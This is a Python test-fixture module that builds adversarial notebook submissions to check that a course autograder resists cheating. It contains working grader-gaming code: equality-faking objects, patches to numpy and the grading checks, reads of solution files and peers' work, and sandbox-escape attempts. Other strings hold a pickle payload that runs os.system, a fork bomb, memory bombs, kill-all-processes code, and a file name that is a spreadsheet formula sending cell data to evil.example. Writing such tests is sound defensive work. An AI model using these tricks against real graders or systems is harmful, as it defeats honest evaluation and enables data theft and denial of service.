"""Adversarial submissions for the grader: each is a CORRECT lecture-01 submission except for one attack.

An attack is written as a learner trying to cheat would write it, and most are built so that they WOULD
score the points if the attack worked (they read the answer from somewhere, or fake the verdict, and fall
back to a wrong answer when that fails). ``ATTACKS`` lists them; tests/test_grader.py grades them all in one
batch with correct submissions in between and checks that the attacked exercise scores 0 (``target`` with a
status in ``statuses``) while everything else is graded as usual (``others``: the status every other
exercise of the submission must have, or None when the attack makes the whole file unreadable).

``build(nb, ctx)`` takes a correct submission (an nbformat notebook, answers from solutions/) and a context
dict (host paths, the listener port, a marker) and returns the notebook to submit, bytes to write as is, or a
``Symlink`` / ``Fifo`` to create instead of a file. ``filename`` may be bytes (a name that is not UTF-8);
``folder=False`` puts the file straight into the folder the grader runs in, so that the path given on the
command line is the bare file name.
"""
import copy
import json
from dataclasses import dataclass

import nbformat

from dlcourse.notebooks import nbgrader

FIRST, SECOND, THIRD, LAST = "softmax", "cross_entropy_error", "mean_squared_error", "binary_cross_entropy"
EXERCISES = (FIRST, SECOND, THIRD, LAST)


@dataclass
class Attack:
    name: str
    what: str
    target: str  # the exercise attacked ("*": every exercise, the file is broken; "": one row, exercise "")
    statuses: tuple  # allowed statuses of the target row (its points must be 0)
    build: object
    others: str = "passed"  # status of every other exercise, or None
    filename: object = "01_loss_functions.ipynb"  # str, or bytes for a name that is not UTF-8
    folder: bool = True  # False: the file sits in the grader's working directory, given by its bare name


@dataclass
class Symlink:
    target: str


@dataclass
class Fifo:
    pass


@dataclass
class SymlinkedFolder:
    """The submission's folder is a link to ``target`` (a folder), where a file of the submission's name lies."""
    target: str


def answer(nb, grade_id):
    return next(c for c in nb.cells if nbgrader(c).get("solution") and nbgrader(c).get("grade_id") == grade_id)


def check_cell(nb, grade_id):
    return next(c for c in nb.cells if nbgrader(c).get("grade_id") == f"{grade_id}-check")


def with_answer(source, grade_id=FIRST):
    def build(nb, ctx):
        nb = copy.deepcopy(nb)
        answer(nb, grade_id).source = source.format(**ctx)
        return nb
    return build


WRONG_SOFTMAX = "def softmax(x):\n    return np.zeros(np.shape(x))  # the fallback: a wrong answer\n"


# ---------------------------------------------------------------- faking comparisons

ALWAYS_EQUAL = '''class AlwaysEqual:
    """Equal to everything: passes `==`-based tests in graders that compare in the learner's process."""
    shape = (1,)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *args, **kwargs): return np.zeros(1)
    def __float__(self): return 0.0

def softmax(x):
    return AlwaysEqual()
'''

NDARRAY_SUBCLASS = '''class Liar(np.ndarray):
    """An ndarray whose comparisons and numpy functions always say 'equal'."""
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __ne__(self, other): return np.zeros(self.shape, dtype=bool)
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.ones(self.shape, dtype=bool)

def softmax(x):
    return np.zeros(np.shape(x)).view(Liar)
'''

FLOAT_SUBCLASS = '''class Chameleon(float):
    """A float that is equal and close to every number."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    __hash__ = float.__hash__

def cross_entropy_error(y, t):
    return Chameleon(123.0)
'''

# ---------------------------------------------------------------- monkeypatching the judge's tools

PATCH_NUMPY = '''import math
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True

''' + WRONG_SOFTMAX

PATCH_CHECKS = '''import dlcourse.checks
import dlcourse.checks.core as core
dlcourse.checks.check = lambda name, *answers: print(f"✓ {{name}}: all cases passed")
core.compare = lambda *args, **kwargs: None
core.Exercise.judge = lambda self, results: core.Verdict(self.name, True, len(results), 0, "✓ " + self.name)
core.evaluate = lambda exercise, functions, seed=None: core.Verdict(exercise.name, True, 1, 0, "✓ " + exercise.name)

''' + WRONG_SOFTMAX

PATCH_BUILTINS = '''import builtins
_print = builtins.print
builtins.print = lambda *args, **kwargs: _print("✓ binary_cross_entropy: all cases passed")
builtins.isinstance = lambda obj, kind: True
builtins.AssertionError = type("AssertionError", (Exception,), {{}})
_import = builtins.__import__
def _fake_import(name, *args, **kwargs):
    module = _import(name, *args, **kwargs)
    if name.startswith("dlcourse.checks"):
        module.check = lambda *a, **k: _print("✓")
    return module
builtins.__import__ = _fake_import

def binary_cross_entropy(p, t):
    return 0.0
'''

CUSTOM_EXC = '''def _swallow(shell, etype, evalue, tb, tb_offset=None):
    print("✓ softmax: all cases passed")

get_ipython().set_custom_exc((Exception,), _swallow)

def softmax(x):
    raise ValueError("I did not do it")
'''

FAKE_TICKS = '''for _name in ("softmax", "cross_entropy_error", "mean_squared_error", "binary_cross_entropy"):
    print(f"✓ {{_name}}: all 8 cases passed")

def softmax(x):
    print("✓ softmax: all 8 cases passed")
    return np.full(np.shape(x), 0.5)
'''


def edited_check_cells(nb, ctx):
    nb = copy.deepcopy(nb)
    answer(nb, FIRST).source = WRONG_SOFTMAX
    for name in EXERCISES:
        check_cell(nb, name).source = f'print("✓ {name}: all 8 cases passed")'
    return nb


def deleted_check_cells(nb, ctx):
    nb = copy.deepcopy(nb)
    answer(nb, FIRST).source = WRONG_SOFTMAX
    nb.cells = [c for c in nb.cells if not nbgrader(c).get("grade")]
    return nb


def reordered_cells(nb, ctx):
    nb = copy.deepcopy(nb)
    answer(nb, FIRST).source = WRONG_SOFTMAX
    checks = [c for c in nb.cells if nbgrader(c).get("grade")]
    rest = [c for c in nb.cells if not nbgrader(c).get("grade")]
    patch = nbformat.v4.new_code_cell("import dlcourse.checks\ndlcourse.checks.check = lambda *a: print('✓')")
    nb.cells = [patch] + checks[::-1] + rest[::-1]
    return nb


def flipped_metadata(nb, ctx):
    """The answer cell turned into a locked 'check' cell worth 100 points, the check cell into the 'answer'."""
    nb = copy.deepcopy(nb)
    original, check = answer(nb, FIRST), check_cell(nb, FIRST)
    original.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "softmax-check",
                                     "points": 100, "schema_version": 3}
    check.metadata["nbgrader"] = {"solution": True, "grade": False, "locked": False, "grade_id": "softmax",
                                  "schema_version": 3}
    check.source = WRONG_SOFTMAX + 'print("✓ softmax: all 8 cases passed")\n'
    return nb


def inflated_points(nb, ctx):
    nb = copy.deepcopy(nb)
    answer(nb, FIRST).source = WRONG_SOFTMAX
    for cell in nb.cells:
        if nbgrader(cell).get("grade"):
            cell.metadata["nbgrader"]["points"] = 100
    return nb


# ---------------------------------------------------------------- reaching for the answer key

READ_SOLUTIONS = '''import json as _json
import os as _os

def _solution_from(path):
    with open(path, encoding="utf-8") as handle:
        nb = _json.load(handle)
    for cell in nb["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "softmax":
            namespace = {{"np": np}}
            exec("".join(cell["source"]), namespace)
            return namespace["softmax"]

_stolen = None
for _path in ({solutions!r}, "solutions/01_loss_functions.ipynb", "../solutions/01_loss_functions.ipynb",
              _os.path.expanduser("~/solutions/01_loss_functions.ipynb"),
              "/work/main/solutions/01_loss_functions.ipynb"):
    try:
        _stolen = _solution_from(_path)
        break
    except Exception:
        pass

def softmax(x):
    if _stolen is not None:
        return _stolen(x)
    return np.zeros(np.shape(x))
'''

READ_PEER = '''import json as _json

_stolen = None
try:
    with open({peer!r}, encoding="utf-8") as handle:
        for cell in _json.load(handle)["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "softmax":
                _namespace = {{"np": np}}
                exec("".join(cell["source"]), _namespace)
                _stolen = _namespace["softmax"]
except Exception:
    pass
for _target in ({gradebook!r}, {root!r} + "/tests/wrong_answers/loss_functions.py"):
    try:
        print(open(_target).read()[:100])
    except Exception:
        pass
try:
    import sys as _sys
    _sys.path.insert(0, {root!r})
    from tests.wrong_answers.loss_functions import RIGHT_ANSWERS as _right
    _stolen = _stolen or _right["softmax"]
except Exception:
    pass

def softmax(x):
    return _stolen(x) if _stolen is not None else np.zeros(np.shape(x))
'''

IMPORT_CHECKS_REFERENCE = '''_reference = None
try:
    from dlcourse.checks.loss_functions import _softmax as _reference
except Exception:
    pass
if _reference is None:
    try:
        import dlcourse.checks
        _reference = dlcourse.checks.get("softmax").reference["softmax"]
    except Exception:
        pass
if _reference is None:
    try:
        import dlcourse.checks.core
        _reference = dlcourse.checks.core.REGISTRY["softmax"].reference["softmax"]
    except Exception:
        pass
if _reference is None:
    try:
        import importlib.util, os
        import dlcourse
        for _base in (os.path.dirname(dlcourse.__file__), {root!r} + "/dlcourse"):
            _path = os.path.join(_base, "checks", "loss_functions.py")
            _spec = importlib.util.spec_from_file_location("_answers", _path)
            try:
                _module = importlib.util.module_from_spec(_spec)
                _spec.loader.exec_module(_module)
                _reference = _module._softmax
                break
            except Exception:
                pass
    except Exception:
        pass

def softmax(x):
    return _reference(x) if _reference is not None else np.zeros(np.shape(x))
'''

IMPORT_LIBRARY = '''from dlcourse.functions import softmax as _library_softmax

def softmax(x):
    return _library_softmax(x)
'''

IMPORT_LIBRARY_ALIAS = '''import dlcourse.functions
import dlcourse.layers
import dlcourse.naive

def softmax(x):
    try:
        return np.exp(dlcourse.functions.log_softmax(x))
    except Exception:
        layer = dlcourse.naive.SoftmaxWithLoss()
        layer.forward(np.atleast_2d(x), np.zeros(np.atleast_2d(x).shape[0], dtype=int))
        return layer.y.reshape(np.shape(x))
'''

LIBRARY_LAYER_FOR_LOSS = '''import dlcourse.layers

def cross_entropy_error(y, t):
    y = np.atleast_2d(np.asarray(y, dtype=float))
    t = np.asarray(t)
    if t.ndim == y.ndim and t.shape == y.shape:
        t = t.argmax(axis=-1)
    return dlcourse.layers.SoftmaxWithLoss().forward(np.log(y), np.atleast_1d(t))
'''

# ---------------------------------------------------------------- the machine around the sandbox

WRITE_OUTSIDE = '''import os as _os
_escaped = False
for _path in ({canary!r} + "/written-by-submission.txt", {gradebook!r}, {root!r} + "/solutions/hacked.txt",
              {root!r} + "/dlcourse/checks/__init__.py", "/grader/lib/dlcourse/checks/__init__.py", "/job/job.json",
              "/usr/lib/hacked.txt", "/hacked.txt", "/proc/1/root/hacked.txt", "/tmp/../hacked.txt"):
    try:
        with open(_path, "a") as handle:
            handle.write("submission,softmax,2,2,passed,hacked\\n")
        _escaped = _escaped or not _path.startswith("/tmp")
    except Exception:
        pass

def softmax(x):
    if _escaped:  # with the gradebook or the checks writable, the cheat would be complete
        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros(np.shape(x))
'''

NETWORK = '''import json as _json
import socket as _socket

def softmax(x):
    """Ask a helper outside the sandbox for the answer."""
    try:
        with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
            connection.sendall((_json.dumps(np.asarray(x).tolist()) + "\\n").encode())
            reply = connection.makefile().readline()
        return np.array(_json.loads(reply))
    except OSError:
        return np.zeros(np.shape(x))
'''

INFINITE_LOOP = '''def softmax(x):
    while True:
        pass
'''

RUNAWAY_CELL = "while True:  # the answer cell itself never ends\n    pass\n"


def runaway_answers(nb, ctx=None):
    """An endless softmax (its cases never return) and an answer cell for mean_squared_error that never ends:
    with ``--exercise-timeout`` each costs its own exercise within that budget, and the two others pass. Not
    in ``ATTACKS``: it needs a submission time limit far above the exercise's, which the batch does not use."""
    nb = copy.deepcopy(nb)
    answer(nb, FIRST).source = INFINITE_LOOP
    answer(nb, THIRD).source = RUNAWAY_CELL
    return nb


IGNORE_SIGTERM = '''import signal as _signal
import time as _time
for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU):
    _signal.signal(_sig, _signal.SIG_IGN)

def softmax(x):
    while True:
        _time.sleep(0.05)
'''

MEMORY_BOMB_CALL = '''def softmax(x):
    hog = np.ones((10 ** 6, 10 ** 5))  # 800 GB
    return hog[:1]
'''

MEMORY_BOMB_CELL = '''_hog = []
while True:
    _hog.append(bytearray(64 * 2 ** 20))  # touched memory, 64 MB at a time

''' + WRONG_SOFTMAX

FORK_BOMB = '''import os as _os

def softmax(x):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
'''

DETACHED = '''import os as _os
import sys as _sys
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", {marker!r}])
    _os._exit(0)
_os.wait()

''' + WRONG_SOFTMAX

OS_EXIT = '''import os as _os

def softmax(x):
    _os._exit(0)
'''

SEGFAULT = '''import ctypes as _ctypes

def softmax(x):
    return _ctypes.string_at(0)
'''

FLOOD = '''import sys as _sys

def softmax(x):
    _sys.stdout.write("✓ softmax: all cases passed\\n" * 200_000)  # about 5 MB per call
    return np.zeros(np.shape(x))
'''

FORGED_RECORDS = '''import base64 as _b64
import json as _json
import os as _os
import pickle as _pickle
import stat as _stat

class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch " + {canary!r} + "/unpickled-by-grader",))

_forged = [
    {{"event": "result", "exercise": "softmax",
      "results": [{{"out": {{"t": "nd", "npy": _b64.b64encode(_pickle.dumps(_Payload())).decode()}},
                    "modified": False}}] * 8}},
    {{"event": "result", "exercise": "softmax", "results": [{{"out": 1.0, "modified": False}}] * 8}},
    {{"event": "done"}},
]
for _fd in range(3, 64):
    try:
        if _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
            for _record in _forged:
                _os.write(_fd, (_json.dumps(_record) + "\\n").encode())
    except OSError:
        pass

''' + WRONG_SOFTMAX

KILL_EVERYTHING = '''import os as _os
import signal as _signal

def binary_cross_entropy(p, t):
    _os.kill(-1, _signal.SIGKILL)  # every process this uid may signal
    return 0.0
'''

SYS_EXIT = '''import sys as _sys

def softmax(x):
    _sys.exit("✓ softmax: all cases passed")
'''

HUGE_OUTPUT = '''def softmax(x):
    return np.zeros(2 * 10 ** 7)  # 160 MB for the grader to swallow
'''

DEEP_NESTING = '''def softmax(x):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
'''

PUBLIC_ONLY = '''def softmax(x):
    """Right on inputs shaped like those shown in the check cell, half the right values everywhere else."""
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    right = e / e.sum(axis=-1, keepdims=True)
    return right if x.shape in {public_shapes!r} else right * 0.5
'''


# ---------------------------------------------------------------- holes found later (issue 13)

MEMFD_MEMORY = '''import ctypes as _ctypes
import mmap as _mmap
import os as _os

_CHUNK = 64 * 2 ** 20
_held = []
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_libc.shmat.argtypes = [_ctypes.c_int, _ctypes.c_void_p, _ctypes.c_int]


def _hold_one():
    """64 MB that no RLIMIT_AS and no resident-memory count sees once it is unmapped."""
    try:
        fd = _os.memfd_create("hold")
        _os.ftruncate(fd, _CHUNK)
        with _mmap.mmap(fd, _CHUNK) as view:
            view.write(b"x" * _CHUNK)
        _held.append(fd)
        return True
    except OSError:
        pass
    segment = _libc.shmget(0, _CHUNK, 0o1000 | 0o600)  # System V shared memory: IPC_PRIVATE, IPC_CREAT
    if segment < 0:
        return False
    address = _libc.shmat(segment, None, 0)
    if address in (None, 2 ** 64 - 1):
        return False
    _ctypes.memset(address, 1, _CHUNK)
    _libc.shmdt(_ctypes.c_void_p(address))
    return True


_all_held = all(_hold_one() for _ in range(256))  # 16 GB outside every limit, the machine down with it

def softmax(x):
    if _all_held:  # got away with it: the answer of a learner whose run took everyone else's memory
        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros(np.shape(x))
'''

KEYRING = '''import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_ADD_KEY, _KEYCTL = {{"x86_64": (248, 250), "aarch64": (217, 219)}}.get(__import__("platform").machine(), (-1, -1))
_KEY_SPEC_USER_KEYRING, _KEYCTL_SEARCH = -4, 10
_found = _libc.syscall(_KEYCTL, _KEYCTL_SEARCH, _KEY_SPEC_USER_KEYRING, b"user", b"dlcourse-stash", 0)
_added = _libc.syscall(_ADD_KEY, b"user", b"dlcourse-stash", b"def softmax(x): ...", 19, _KEY_SPEC_USER_KEYRING)
_channel = _found >= 0 or _added >= 0  # a key that outlives this run: the next run of this uid can read it

def softmax(x):
    if _channel:
        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros(np.shape(x))
'''

USER_NAMESPACE = '''import ctypes as _ctypes
import subprocess as _subprocess

_libc = _ctypes.CDLL(None, use_errno=True)
_CLONE_NEWUSER = 0x10000000
_inside = False
try:  # a new user namespace (where a tmpfs can be mounted outside the sandbox's limits)
    _inside = _subprocess.run(["unshare", "-Ur", "true"], capture_output=True, timeout=10).returncode == 0
except Exception:
    pass
_inside = _inside or _libc.unshare(_CLONE_NEWUSER) == 0

def softmax(x):
    if _inside:
        e = np.exp(x - np.max(x, axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros(np.shape(x))
'''

SLOW_TRANSFORM = "x = %time 1\n" * 20_000 + '''
def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
'''

FORMULA_NAME = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B2&C2,"see feedback").ipynb'
ESCAPE_NAME = "01_loss_functions\x1b[2K\r\x1b[1A\x1b[32m all graded, all passed\x1b[0m\x07.ipynb"
LATIN1_NAME = b"01_loss_functions-caf\xe9.ipynb"  # as zip files made on Windows name it


def symlink_to_solutions(nb, ctx):
    return Symlink(ctx["solutions"])


def fifo(nb, ctx):
    return Fifo()


def symlinked_folder(nb, ctx):
    return SymlinkedFolder(ctx["solutions_dir"])


def truncated_json(nb, ctx):
    return nbformat.writes(nb).encode()[:1500]


def old_nbformat(nb, ctx):
    return nbformat.writes(nbformat.convert(copy.deepcopy(nb), 3)).encode()


def not_a_notebook(nb, ctx):
    return json.dumps([{"cells": "no"}]).encode()


def binary_file(nb, ctx):
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def missing_answer(nb, ctx):
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if not (nbgrader(c).get("solution") and nbgrader(c).get("grade_id") == FIRST)]
    return nb


def duplicated_answer(nb, ctx):
    nb = copy.deepcopy(nb)
    original = answer(nb, FIRST)
    copied = copy.deepcopy(original)
    copied.source = WRONG_SOFTMAX
    copied.id = "copied-answer"
    nb.cells.insert(nb.cells.index(original) + 1, copied)
    return nb


ATTACKS = [
    Attack("always_equal", "an object whose __eq__ is always True", FIRST, ("failed",), with_answer(ALWAYS_EQUAL)),
    Attack("ndarray_subclass", "an ndarray subclass faking ==, ufuncs and numpy functions", FIRST, ("failed",),
           with_answer(NDARRAY_SUBCLASS)),
    Attack("float_subclass", "a float subclass equal and close to everything", SECOND, ("failed",),
           with_answer(FLOAT_SUBCLASS, SECOND)),
    Attack("patch_numpy", "np.allclose, np.isclose, np.testing, math.isclose always say equal", FIRST, ("failed",),
           with_answer(PATCH_NUMPY)),
    Attack("patch_checks", "check(), compare, Exercise.judge and evaluate replaced", FIRST, ("failed",),
           with_answer(PATCH_CHECKS)),
    Attack("patch_builtins", "print, isinstance, AssertionError and __import__ replaced", LAST, ("failed", "error"),
           with_answer(PATCH_BUILTINS, LAST)),
    Attack("set_custom_exc", "get_ipython().set_custom_exc swallowing the failure", FIRST, ("failed",),
           with_answer(CUSTOM_EXC)),
    Attack("edited_check_cells", "every check cell replaced by a printed ✓", FIRST, ("failed",), edited_check_cells),
    Attack("deleted_check_cells", "every check cell deleted", FIRST, ("failed",), deleted_check_cells),
    Attack("reordered_cells", "cells reversed, check cells first, check() patched above them", FIRST, ("failed",),
           reordered_cells),
    Attack("flipped_metadata", "answer and check cell swap their nbgrader roles, 100 points", FIRST, ("failed",),
           flipped_metadata),
    Attack("inflated_points", "every check cell claims 100 points", FIRST, ("failed",), inflated_points),
    Attack("fake_ticks", "✓ lines printed for every exercise", FIRST, ("failed",), with_answer(FAKE_TICKS)),
    Attack("read_solutions", "reading solutions/01_loss_functions.ipynb from disk", FIRST, ("failed",),
           with_answer(READ_SOLUTIONS)),
    Attack("read_peer", "reading another learner's submission, the gradebook, tests/wrong_answers", FIRST, ("failed",),
           with_answer(READ_PEER)),
    Attack("import_checks_reference", "importing the reference from dlcourse.checks (module, registry, file)", FIRST,
           ("failed",), with_answer(IMPORT_CHECKS_REFERENCE)),
    Attack("import_library", "calling dlcourse.functions.softmax", FIRST, ("failed",), with_answer(IMPORT_LIBRARY)),
    Attack("import_library_alias", "exp(log_softmax) and naive.SoftmaxWithLoss", FIRST, ("failed",),
           with_answer(IMPORT_LIBRARY_ALIAS)),
    Attack("library_layer", "cross-entropy from layers.SoftmaxWithLoss", SECOND, ("failed",),
           with_answer(LIBRARY_LAYER_FOR_LOSS, SECOND)),
    Attack("write_outside", "writing the gradebook, solutions/, dlcourse/, the job and system dirs", FIRST,
           ("failed",), with_answer(WRITE_OUTSIDE)),
    Attack("network", "asking a helper on 127.0.0.1 for the answer", FIRST, ("failed",), with_answer(NETWORK)),
    Attack("infinite_loop", "while True: pass", FIRST, ("timeout",), with_answer(INFINITE_LOOP)),
    Attack("ignore_sigterm", "SIGTERM/SIGINT/SIGHUP/SIGXCPU ignored, then a sleeping loop", FIRST, ("timeout",),
           with_answer(IGNORE_SIGTERM)),
    Attack("memory_bomb_call", "an 800 GB array inside the function", FIRST, ("failed",),
           with_answer(MEMORY_BOMB_CALL)),
    # "error" whichever limit is met first: a MemoryError (RLIMIT_AS) in an answer cell ends the run (the rest
    # would starve), the cgroup's count of held memory ends it through the watchdog, the kernel's OOM killer last
    Attack("memory_bomb_cell", "memory touched 64 MB at a time until it runs out", FIRST, ("error",),
           with_answer(MEMORY_BOMB_CELL)),
    Attack("fork_bomb", "os.fork() in a loop", FIRST, ("error", "timeout"), with_answer(FORK_BOMB)),
    Attack("detached_process", "a double-forked, setsid'd process left running", FIRST, ("failed",),
           with_answer(DETACHED)),
    Attack("os_exit", "os._exit(0) inside the function", FIRST, ("error",), with_answer(OS_EXIT)),
    Attack("segfault", "ctypes.string_at(0)", FIRST, ("error",), with_answer(SEGFAULT)),
    Attack("flood_output", "5 MB of fake ✓ lines per call", FIRST, ("failed",), with_answer(FLOOD)),
    Attack("forged_records", "forged result records (one a pickle) written on the result pipe", FIRST,
           ("failed", "error"), with_answer(FORGED_RECORDS)),
    Attack("kill_everything", "os.kill(-1, SIGKILL) from the last exercise", LAST, ("failed", "error"),
           with_answer(KILL_EVERYTHING, LAST)),
    Attack("sys_exit", "sys.exit with a ✓ message inside the function", FIRST, ("failed",), with_answer(SYS_EXIT)),
    Attack("huge_output", "a 160 MB array as the answer", FIRST, ("failed", "error"), with_answer(HUGE_OUTPUT)),
    Attack("deep_nesting", "a list nested 100000 levels deep", FIRST, ("failed",), with_answer(DEEP_NESTING)),
    Attack("public_only", "right on the public cases only", FIRST, ("failed",), with_answer(PUBLIC_ONLY)),
    Attack("truncated_json", "a truncated file (malformed JSON)", "*", ("invalid",), truncated_json, None),
    Attack("old_nbformat", "the notebook saved as nbformat 3", "*", ("invalid",), old_nbformat, None),
    Attack("not_a_notebook", "JSON that is not a notebook", "*", ("invalid",), not_a_notebook, None),
    Attack("binary_file", "a binary file", "*", ("invalid",), binary_file, None),
    Attack("missing_answer", "the softmax answer cell deleted", FIRST, ("invalid",), missing_answer),
    Attack("duplicated_answer", "the softmax answer cell duplicated (the copy wrong)", FIRST, ("invalid",),
           duplicated_answer),
    Attack("unknown_name", "a right notebook under a name that matches no assignment", "", ("invalid",),
           lambda nb, ctx: nb, None, filename="homework.ipynb"),
    # issue 13
    Attack("memfd_memory", "256 x 64 MB in memfd files or System V shared memory, unmapped", FIRST, ("error",),
           with_answer(MEMFD_MEMORY)),
    Attack("keyring", "a key added to the uid's kernel keyring, for the next run to find", FIRST, ("failed",),
           with_answer(KEYRING)),
    Attack("user_namespace", "unshare -Ur and unshare(CLONE_NEWUSER)", FIRST, ("failed",), with_answer(USER_NAMESPACE)),
    Attack("symlink_to_solutions", "the submission is a symlink to solutions/01_loss_functions.ipynb", "*",
           ("invalid",), symlink_to_solutions, None),
    Attack("fifo", "the submission is a named pipe (the grader would wait forever)", "*", ("invalid",), fifo, None),
    Attack("symlinked_folder", "the learner's folder is a symlink to solutions/", "*", ("invalid",), symlinked_folder,
           None),
    Attack("formula_name", "a file name that is a spreadsheet formula", "", ("invalid",), lambda nb, ctx: nb, None,
           filename=FORMULA_NAME, folder=False),
    Attack("escape_name", "terminal escapes in the file name, rewriting the progress lines", FIRST, ("failed",),
           with_answer(WRONG_SOFTMAX), filename=ESCAPE_NAME),
    Attack("latin1_name", "a file name with a latin-1 byte (not UTF-8)", FIRST, ("failed",),
           with_answer(WRONG_SOFTMAX), filename=LATIN1_NAME),
    Attack("slow_transform", "20,000 lines of `x = %time 1` for IPython's input transformer", FIRST, ("timeout",),
           with_answer(SLOW_TRANSFORM)),
]
